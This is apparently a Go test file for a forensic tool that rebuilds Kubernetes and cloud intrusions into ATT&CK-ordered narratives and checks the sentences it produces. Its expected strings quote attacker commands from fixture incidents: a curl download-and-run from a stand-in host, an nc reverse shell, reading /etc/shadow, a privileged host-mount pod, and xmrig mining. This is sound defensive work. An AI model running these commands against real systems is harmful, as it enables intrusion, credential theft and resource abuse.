package story_test

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"amber/evidence/casedir"
	"amber/timeline"
	"amber/timeline/build"
	"amber/timeline/correlate"
	"amber/timeline/detect"
	"amber/timeline/source/all"
	"amber/timeline/source/sourcetest"
	"amber/timeline/store"
	"amber/timeline/story"
)

// incident is that of package correlate, with its written truth.
const incident = "../correlate/testdata/incident"

func opened(t testing.TB, paths ...string) *store.Store {
	t.Helper()
	c, err := casedir.Create(filepath.Join(t.TempDir(), "case"), "", nil)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	if _, err := build.Build(t.Context(), build.Options{Case: c, Paths: paths, Sources: all.Sources()}); err != nil {
		t.Fatal(err)
	}
	s, err := store.Open(build.Dir(c), store.OpenOptions{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = s.Close() })
	return s
}

func told(t testing.TB, s *store.Store, o story.Options) *story.Story {
	t.Helper()
	g, err := correlate.Build(t.Context(), s)
	if err != nil {
		t.Fatal(err)
	}
	st, err := story.Tell(t.Context(), s, g, o)
	if err != nil {
		t.Fatal(err)
	}
	return st
}

// lines are the sentences of a story, each behind its tactic.
func lines(st *story.Story) (out []string) {
	for _, sec := range st.Sections {
		for i := range sec.Sentences {
			s := &sec.Sentences[i]
			out = append(out, sec.Tactic+": "+s.Sure.String()+": "+s.Plain())
		}
	}
	return out
}

func has(t *testing.T, st *story.Story, want ...string) {
	t.Helper()
	all := lines(st)
	for _, w := range want {
		found := false
		for _, l := range all {
			found = found || strings.Contains(l, w)
		}
		if !found {
			t.Errorf("the story does not say %q:\n%s", w, strings.Join(all, "\n"))
		}
	}
}

// Every sentence names rows that are there, and what proves them.
func proven(t *testing.T, s *store.Store, st *story.Story) {
	t.Helper()
	n := 0
	for _, sec := range st.Sections {
		for i := range sec.Sentences {
			x := &sec.Sentences[i]
			if n++; len(x.Rows) == 0 || x.Count < int64(len(x.Rows)) || len(x.Raw) == 0 {
				t.Errorf("%q rests on %d rows of %d, %d raw records", x.Plain(), len(x.Rows), x.Count, len(x.Raw))
			}
			for _, id := range x.Rows {
				if _, err := s.Refs(t.Context(), id); err != nil {
					t.Errorf("%q: %v", x.Plain(), err)
				}
			}
			if x.Sure != correlate.Certain && x.Because == "" {
				t.Errorf("%q is not certain and does not say why", x.Plain())
			}
		}
	}
	if n == 0 {
		t.Error("nothing is told")
	}
}

func TestIncident(t *testing.T) {
	s := opened(t, incident)
	st := told(t, s, story.Options{})
	proven(t, s, st)
	has(t, st,
		"execution: certain: mallory ran /bin/sh -c 'curl -o /tmp/k http://198.51.100.7/k; chmod +x /tmp/k; /tmp/k' in the pod shop/web-5d9c7b6f4-x2k9p (container web) from 203.0.113.50",
		"execution: certain: the exec of 10:20:00.000 started the process n1/4001@2026-03-01T10:20:00.120000Z (it went on to run 3 programs: ",
		"execution: certain: the file /tmp/k, written by /usr/bin/curl -o /tmp/k http://198.51.100.7/k, was run as /tmp/k",
		"privilege-escalation: certain: the service account shop/web created the pod node-shell in the namespace shop (privileged, in the host's PID namespace, with the host's path /, of the image registry.example/busybox:1) from 203.0.113.50",
		"persistence: certain: the service account shop/web created the cron job sync in the namespace kube-system",
		"credential-access: certain: the token JTI=aaaa was used from 203.0.113.50. Possibly it is in other hands, because ",
		"credential-access: certain: the session ASIAIRSA00000000001 (web-role/app-1) was used from 203.0.113.50. Possibly ",
		"lateral-movement: certain: the service account shop/web opened the session ASIAIRSA00000000001",
		"persistence: certain: mallory called iam:CreateAccessKey on backup from 203.0.113.50",
		"collection: certain: the role web-role called s3:GetObject on bucket/backups from 203.0.113.50, 2 times",
		"command-and-control: certain: the pod shop/web-5d9c7b6f4-x2k9p connected to 198.51.100.7, 2 times",
		"cat /etc/shadow was run in the container c3c3c3c3c3c3, likely by an exec of the service account shop/web",
	)
	// What a controller does all day is no part of it, nor is what is a guess told
	// as if it were none.
	for _, l := range lines(st) {
		if strings.Contains(l, "replicaset-controller") || strings.Contains(l, "certain: the exec of 10:22:10.000") {
			t.Error(l)
		}
	}
}

// The tactics come in ATT&CK's order, sentences in that of time.
func TestOrder(t *testing.T) {
	st := told(t, opened(t, incident), story.Options{})
	order := "reconnaissance resource-development initial-access execution persistence privilege-escalation defense-evasion credential-access discovery lateral-movement collection command-and-control exfiltration impact"
	at := -1
	for _, sec := range st.Sections {
		i := strings.Index(order, sec.Tactic)
		if i <= at {
			t.Errorf("%s comes too late", sec.Tactic)
		}
		at = i
		for j := 1; j < len(sec.Sentences); j++ {
			if sec.Sentences[j].First.Micros < sec.Sentences[j-1].First.Micros {
				t.Errorf("%s comes too late", sec.Sentences[j].Plain())
			}
		}
	}
}

func TestTakeover(t *testing.T) {
	s := opened(t, sourcetest.Data(t, "kube-audit", "cluster-takeover.jsonl.gz"))
	st := told(t, s, story.Options{})
	proven(t, s, st)
	has(t, st,
		"privilege-escalation: certain: admin, acting as mallory, created the cluster role binding shop-admins from 127.0.0.1",
		"initial-access: certain: system:anonymous tried to list secrets in the namespace shop from 127.0.0.1: refused",
		"credential-access: certain: admin, acting as the service account shop/web, listed ",
		"privilege-escalation: certain: admin, acting as the service account shop/web, created the pod node-shell in the namespace shop (privileged, ",
		"execution: certain: admin, acting as the service account shop/web, ran /bin/sh -c 'id; cat /host/etc/hostname; ls /host/root' in the pod shop/node-shell",
		"persistence: certain: admin, acting as the service account shop/web, created the cron job sync in the namespace kube-system",
		"defense-evasion: certain: admin, acting as the service account shop/web, deleted the pod node-shell",
		"defense-evasion: certain: admin, acting as the service account shop/web, deleted 5 events ",
	)
	var b bytes.Buffer
	if err := story.Text(&b, st); err != nil || !strings.Contains(b.String(), "mallory") {
		t.Errorf("%v\n%s", err, b.String())
	}
	if n := len(lines(st)); n > 40 {
		t.Errorf("%d sentences: the cluster's own noise is among them", n)
	}
	for _, l := range lines(st) {
		if strings.Contains(l, "system:apiserver") || strings.Contains(l, "leases") {
			t.Error(l)
		}
	}
}

func TestFrom(t *testing.T) {
	s := opened(t, incident)
	for from, want := range map[string]string{
		"user:mallory":                      "mallory ran /bin/sh",
		"user.name:mallory":                 "",
		"mallory":                           "",
		"pod:shop/node-shell":               "created the pod node-shell",
		"node-shell":                        "created the pod node-shell",
		"cloud-session:ASIAIRSA00000000001": "was used from 203.0.113.50",
		"user:dana":                         "dana created the deployment web",
	} {
		g, err := correlate.Build(t.Context(), s)
		if err != nil {
			t.Fatal(err)
		}
		st, err := story.Tell(t.Context(), s, g, story.Options{From: from})
		var unknown *story.ErrUnknown
		switch {
		case want == "": // a user of the cluster and one of the cloud have the name
			if !errors.As(err, &unknown) || len(unknown.Could) != 2 {
				t.Errorf("%s: %v", from, err)
			}
		case err != nil:
			t.Errorf("%s: %v", from, err)
		default:
			has(t, st, want)
		}
	}
	g, err := correlate.Build(t.Context(), s)
	if err != nil {
		t.Fatal(err)
	}
	var unknown *story.ErrUnknown
	if _, err := story.Tell(t.Context(), s, g, story.Options{From: "nobody"}); !errors.As(err, &unknown) || len(unknown.Could) != 0 {
		t.Errorf("%v", err)
	}
}

// A finding makes an event part of the story that does not stand out by itself,
// says who found it, and is where a story can start. A suppressed one is counted.
func TestFindings(t *testing.T) {
	s := opened(t, incident)
	g, err := correlate.Build(t.Context(), s)
	if err != nil {
		t.Fatal(err)
	}
	service, ok := g.Find(correlate.Ref{Kind: correlate.Service, Name: "shop/web"})
	if !ok {
		t.Fatal("no service")
	}
	row := timeline.RowID{}
	at := timeline.Time{}
	for _, l := range g.Of(service) {
		if l.Kind == correlate.Created {
			row, at = l.Rows()[0], l.First
		}
	}
	found := func(suppressed string) func(context.Context, func(*detect.Finding) error) error {
		return func(_ context.Context, each func(*detect.Finding) error) error {
			return each(&detect.Finding{
				ID: "f00df00df00d", RuleID: "r", Title: "A service was made", Level: "high", Techniques: []string{"T9999"}, Tactics: []string{"exfiltration"},
				Time: at, End: at, Rows: []timeline.RowID{row}, Suppressed: suppressed,
			})
		}
	}
	st := told(t, s, story.Options{From: "f00df0", Findings: found("")})
	has(t, st, "exfiltration: certain: dana created the service web in the namespace shop from 192.0.2.77")
	var b bytes.Buffer
	if err := story.Text(&b, st); err != nil || !strings.Contains(b.String(), "high · T9999 · found by A service was made") {
		t.Errorf("%v\n%s", err, b.String())
	}
	quiet := told(t, s, story.Options{Findings: found("known")})
	for _, l := range lines(quiet) {
		if strings.Contains(l, "service web in") {
			t.Error(l)
		}
	}
	counted := false
	for _, a := range quiet.Apart {
		counted = counted || strings.Contains(a.What, "suppressed") && a.Events == 1
	}
	if !counted {
		t.Errorf("%+v", quiet.Apart)
	}
}

func TestEmpty(t *testing.T) {
	path := filepath.Join(t.TempDir(), "audit.log")
	line := `{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"1","stage":"ResponseComplete","requestURI":"/healthz","verb":"get","user":{"username":"u"},"requestReceivedTimestamp":"2026-03-01T10:00:00.000000Z"}` + "\n"
	if err := os.WriteFile(path, []byte(line), 0o600); err != nil {
		t.Fatal(err)
	}
	st := told(t, opened(t, path), story.Options{})
	if len(st.Sections) != 0 || !strings.Contains(st.Title, "Nothing") {
		t.Errorf("%+v", st)
	}
	for _, write := range []func(*bytes.Buffer) error{
		func(b *bytes.Buffer) error { return story.Text(b, st) },
		func(b *bytes.Buffer) error { return story.Markdown(b, st) },
		func(b *bytes.Buffer) error { return story.HTML(b, st) },
	} {
		var b bytes.Buffer
		if err := write(&b); err != nil || !strings.Contains(b.String(), "Nothing stands out") {
			t.Errorf("%v %s", err, b.String())
		}
	}
}

func TestJSON(t *testing.T) {
	st := told(t, opened(t, incident), story.Options{})
	data, err := json.Marshal(st)
	if err != nil {
		t.Fatal(err)
	}
	var got struct {
		Sections []struct {
			Tactic    string
			Sentences []struct {
				Text, Sure, First string
				Events            int64
				Rows              []string
				Raw               []struct{ SHA256 string }
			}
		}
	}
	if err := json.Unmarshal(data, &got); err != nil || len(got.Sections) != len(st.Sections) {
		t.Fatalf("%v, %d sections", err, len(got.Sections))
	}
	row := regexp.MustCompile("^[0-9a-f]{32}$")
	for i, sec := range got.Sections {
		for j, s := range sec.Sentences {
			want := &st.Sections[i].Sentences[j]
			if s.Text != want.Plain() || s.Sure != want.Sure.String() || s.Events != want.Count || len(s.Rows) != len(want.Rows) || !row.MatchString(s.Rows[0]) || len(s.Raw[0].SHA256) != 64 {
				t.Errorf("%+v", s)
			}
		}
	}
}

// The incident that the project ships, recorded whole: what each source tells is
// joined to one story.
func TestWebpod(t *testing.T) {
	dir := "../../testdata/incidents/webpod"
	bundles, err := filepath.Glob(dir + "/case/evidence/*")
	if err != nil || len(bundles) == 0 {
		t.Skip("the incident is not here: ", err)
	}
	s := opened(t, append(bundles, dir+"/logs", dir+"/case/custody.jsonl")...)
	st := told(t, s, story.Options{})
	proven(t, s, st)
	all := strings.Join(lines(st), "\n")
	if strings.Contains(all, "amber-hold") {
		t.Errorf("the response is told as if it were the intrusion:\n%s", all)
	}
	for _, want := range []string{
		`initial-access: likely: the request .*cgi-bin/status.* ran nc .* -e /bin/sh in the pod shop/web-`,
		`execution: certain: the service account shop/web ran chroot /host .* in the pod kube-system/node-tuner`,
		`execution: likely: the exec of [0-9:.]+ started the process \S+/[0-9]+@.* \(it went on to run [0-9]+ programs?: `,
		`execution: \w+: the file /tmp/\.kc, written by wget .*, was run [0-9]+ times as /tmp/\.kc GET `,
		`privilege-escalation: certain: the service account shop/web created the pod node-tuner in the namespace kube-system \(privileged, `,
		`persistence: certain: the service account shop/web created the cron job `,
		`credential-access: certain: the token JTI=\S+ was used from \S+\. Possibly it is in other hands`,
		`credential-access: certain: .*cat /etc/shadow was run in the pod kube-system/node-tuner, likely by an exec of the service account shop/web`,
		`lateral-movement: certain: the service account shop/web opened the session \S+ \(shop-web/\S+\)\. Possibly its token is in other hands`,
		`collection: certain: the role shop-web called s3:GetObject on bucket/shop-customers-example from `,
		`defense-evasion: certain: the service account shop/web deleted [0-9]+ events `,
		`impact: certain: .*xmrig.* was run in the pod kube-system/node-tuner`,
	} {
		if !regexp.MustCompile(want).MatchString(all) {
			t.Errorf("the story does not say %s:\n%s", want, all)
		}
	}
}
